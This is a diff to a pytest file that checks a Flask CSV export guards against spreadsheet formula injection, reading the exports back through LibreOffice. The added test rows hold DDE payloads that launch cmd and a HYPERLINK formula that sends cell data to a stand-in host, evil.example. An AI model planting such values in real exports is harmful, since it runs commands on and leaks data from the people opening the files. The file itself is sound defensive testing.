@@ -18,6 +18,7 @@ import subprocess
 import typing as t
 import unicodedata
 import xml.etree.ElementTree as ET
+from decimal import Decimal
 from pathlib import Path
 
 import pytest
@@ -103,6 +104,32 @@ def hostile_cells() -> list[str]:
     cells += ['"=1+1', '""=1+1', '"=1+1"', "'=1+1", "Eve\t=1+1", "  =1+1"]
     cells += ["-1+1", "+1+1", "-1,=1+1", "-42\n=1+1", "1,-2;=1+1"]
     return cells
+
+
+#: Whole rows: a number where a line starts (or a cell inside a string
+#: starts, after ";", TAB or a line break) that a reader splitting on ";" or
+#: TAB sees run on, through the next fields, into a DDE call or a function
+#: (``-1,5+cmd|...`` is one cell for it, and ``-1,5`` a number in Germany).
+RUN_ON_ROWS: list[tuple[t.Any, ...]] = [
+    (-1, "5+cmd|' /C calc'!A0"),
+    ("-1", "5+cmd|' /C calc'!A0"),
+    (-1.5, "2+cmd|' /C calc'!A0"),
+    (Decimal("-1"), "5+cmd|' /C calc'!A0"),
+    ("+1", "1+cmd|' /C calc'!A0"),
+    (" -1", "5+cmd|' /C calc'!A0"),
+    (-1, "5+SUM(1;2)"),
+    (-1, '5+HYPERLINK("http://evil.example/?leak="&B1;"Click")'),
+    (-1, 2, "3+cmd|' /C calc'!A0"),
+    ("x;-1", "5+cmd|' /C calc'!A0"),
+    ("x\t-1", "5+cmd|' /C calc'!A0"),
+    ("Totals:\n-1", "5+cmd|' /C calc'!A0"),
+    ("a;", -1, "5+cmd|' /C calc'!A0"),  # TAB-delimited: ";" then "\t-1\t5+..."
+    (None, -1, "5+cmd|' /C calc'!A0"),
+]
+
+
+def hostile_rows() -> list[tuple[t.Any, ...]]:
+    return [(f"r{i}", cell) for i, cell in enumerate(hostile_cells())] + RUN_ON_ROWS
 
 
 #: Cells that must come out of the export exactly as they went in.
@@ -250,13 +277,13 @@ EXPORTS: dict[str, dict[str, t.Any]] = {
 }
 
 
-def export(name: str, cells: list[str]) -> bytes:
+def export(name: str, rows: list[tuple[t.Any, ...]]) -> bytes:
     app = Flask(__name__)
 
     @app.get("/x")
     @csv_export(["id", "cell"], **EXPORTS[name])
-    def rows() -> t.Iterator[tuple[str, str]]:
-        return ((f"r{i}", cell) for i, cell in enumerate(cells))
+    def view() -> t.Iterator[tuple[t.Any, ...]]:
+        return iter(rows)
 
     response = app.test_client().get("/x")
     assert response.status_code == 200
@@ -269,8 +296,9 @@ def spreadsheet(tmp_path_factory: pytest.TempPathFactory) -> dict[str, t.Any]:
     ``{"csv": {file: bytes}, "read": {separator: {file: rows}}}``."""
     soffice = soffice_or_skip()
     base = tmp_path_factory.mktemp("libreoffice")
-    bodies = {name: export(name, hostile_cells()) for name in EXPORTS}
-    bodies["benign"] = export("escaped", BENIGN + PHONES)
+    bodies = {name: export(name, hostile_rows()) for name in EXPORTS}
+    benign = BENIGN + PHONES
+    bodies["benign"] = export("escaped", [(f"r{i}", c) for i, c in enumerate(benign)])
     files = []
     for name, body in bodies.items():
         path = base / f"{name}.csv"
@@ -295,8 +323,36 @@ def test_libreoffice_finds_no_formula_in_an_escaped_export(
     spreadsheet: dict[str, t.Any], separator: str, name: str
 ) -> None:
     rows = spreadsheet["read"][separator][name]
-    assert len(rows) > len(hostile_cells())  # the whole file was read
+    assert len(rows) > len(hostile_rows())  # the whole file was read
     assert formulas(rows) == []
+
+
+@pytest.mark.parametrize(
+    ("name", "separator"),
+    [  # each export read on the separators it was not written with
+        ("escaped", "semicolon"),
+        ("escaped", "tab"),
+        ("escaped-tab", "comma"),
+        ("escaped-tab", "semicolon"),
+        ("escaped-semicolon", "comma"),
+        ("escaped-semicolon", "tab"),
+    ],
+)
+def test_no_cell_libreoffice_reads_starts_with_a_number_running_into_a_call(
+    spreadsheet: dict[str, t.Any], name: str, separator: str
+) -> None:
+    # LibreOffice evaluates only cells starting with "=" (Excel also "-" and
+    # "+"), so it shows the run-on rows as text either way; what it reads
+    # shows the "'" in front of each.
+    calls = ("cmd|", "SUM(", "HYPERLINK(")
+    texts = [c[2] for row in spreadsheet["read"][separator][name] for c in row]
+    running = [
+        text
+        for text in texts
+        if text.lstrip(" ")[:1] in ("-", "+") and any(call in text for call in calls)
+    ]
+    assert running == []
+    assert any(text.startswith("'-1") and "cmd|" in text for text in texts)
 
 
 @pytest.mark.parametrize("separator", SEPARATORS)
